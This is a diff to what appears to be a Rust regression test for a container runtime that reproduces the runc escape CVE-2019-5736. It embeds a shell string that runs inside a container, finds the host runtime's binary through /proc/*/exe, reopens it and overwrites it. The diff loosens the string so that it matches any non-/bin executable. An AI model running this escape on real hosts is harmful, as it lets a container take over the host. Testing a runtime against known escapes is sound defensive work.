@@ -28,6 +28,7 @@ fn cve_2019_5736_the_runtimes_binary_is_written_from_inside() {
         bundle = bundle.set(&format!("/process/capabilities/{set}"), json!(CAPABILITIES));
     }
     let container = rt.run_detached(&bundle, &[]).unwrap();
+    // What is not of the container's own /bin is the runtime.
     // A victim that lasts: its output goes into a pipe that is full.
     let (mut reader, writer) = pipe().expect("make a pipe");
     fcntl(writer.as_fd(), FcntlArg::F_SETFL(OFlag::O_NONBLOCK)).expect("make the pipe non-blocking");
@@ -37,7 +38,7 @@ fn cve_2019_5736_the_runtimes_binary_is_written_from_inside() {
         command.stdout(writer);
     });
     let attack = "for i in 1 2 3 4 5 6 7 8 9; do for exe in /proc/[0-9]*/exe; do
-        case $(readlink $exe) in *tare*) exec 9<$exe; echo opened; break 2;; esac; done; done
+        case $(readlink $exe) in /bin/*|'') ;; *) exec 9<$exe; echo opened; break 2;; esac; done; done
         read go; echo pwned > /proc/self/fd/9 && echo written";
     let mut attacker = rt.spawn(&["exec", container.id(), "sh", "-c", attack], |command| {
         command.stdin(Stdio::piped());
